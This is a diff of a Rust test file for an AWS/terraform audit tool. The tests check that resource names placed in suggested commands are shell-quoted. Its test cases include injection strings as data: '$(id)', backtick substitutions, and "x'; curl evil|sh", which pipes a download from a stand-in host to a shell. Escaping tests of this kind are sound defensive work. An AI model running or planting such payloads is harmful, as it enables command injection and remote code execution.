@@ -3,12 +3,13 @@ use std::collections::BTreeSet;
 use shared::audit::course::News;
 use shared::audit::findings::Changes;
 use shared::audit::first_week::{FirstWeek, Held, Quiet};
+use shared::command;
 use shared::policy::{Area, Responsible};
 use shared::runtime::language::Language;
 use shared::runtime::settings::Settings;
 
 use super::sentence::sentence;
-use super::step::{import, next_step, shell};
+use super::step::{import, next_step, terraform};
 use super::summary::MOST_LINES;
 use super::*;
 use crate::rules::row::{Problem, Row, Verdict};
@@ -80,12 +81,16 @@ fn a_word_of_a_command_is_one_word_for_a_shell() {
         ("a[\"one\"]", Some("'a[\"one\"]'")),
         ("a[0]", Some("'a[0]'")),
         ("it's", Some("'it'\\''s'")),
-        ("$(id);\\", Some("'$(id);\\'")),
+        ("$(id); x\\", Some("'$(id); x\\'")),
         ("", Some("''")),
         ("a`id`", None),
         ("a\nb", None),
     ] {
-        assert_eq!(shell(word).as_deref(), expected, "{word}");
+        let expected = expected.map_or_else(
+            || "`terraform state` by hand: a message cannot carry some characters of the address".to_owned(),
+            |word| format!("`terraform state rm {word}`"),
+        );
+        assert_eq!(terraform(&command!("state rm "), word, Language::English), expected);
     }
 }
 
@@ -104,7 +109,7 @@ fn every_finding_has_a_command_or_a_field_in_both_languages() {
         (Problem::ListUnread { why: why() }, "aws lambda invoke"),
         (
             Problem::TagsMissing { tags: vec![("Environment", Some("dev".to_owned())), ("ManagedBy", None)] },
-            "tag-resources --resource-arn-list 'arn:aws:x:moveongs-dev-db' --tags Environment=dev,ManagedBy=terraform`",
+            "tag-resources --resource-arn-list arn:aws:x:moveongs-dev-db --tags Environment=dev,ManagedBy=terraform`",
         ),
         (Problem::NotInState, "terraform import aws_db_instance.NOME moveongs-dev-db`"),
         (Problem::NotInInventory, "resources.rds-instance"),
@@ -168,11 +173,19 @@ fn a_secret_is_imported_by_its_arn_and_another_kind_is_looked_up() {
     );
     assert!(
         import(&row("sns:topic", "x", vec![]), Language::English)
-            .contains("get-resources --resource-arn-list 'arn:aws:x:x'")
+            .contains("get-resources --resource-arn-list arn:aws:x:x`")
     );
-    for hostile in ["x';curl evil|sh;'", "x`id`", "x$(id)", "x y", "x\ny", "é"] {
-        let command = import(&row("cloudwatch:alarm", hostile, vec![]), Language::English);
-        assert!(command.contains("in the console") && !command.contains(hostile), "{command}");
+    for (foreign, word) in [
+        ("x'; curl evil|sh", r"'arn:aws:x:x'\''; curl evil|sh'"),
+        ("x $(id)", "'arn:aws:x:x $(id)'"),
+        ("é", "'arn:aws:x:é'"),
+    ] {
+        let command = import(&row("cloudwatch:alarm", foreign, vec![]), Language::English);
+        assert!(command.ends_with(&format!(" --resource-arn-list {word}`")), "{command}");
+    }
+    for foreign in ["x`id`", "x\ny"] {
+        let command = import(&row("cloudwatch:alarm", foreign, vec![]), Language::English);
+        assert!(command.contains("in the console") && !command.contains(foreign), "{command}");
     }
     let area = row("area", "database", vec![]);
     let next = next_step(&settings(Language::English), &area, &Problem::OneTeam);
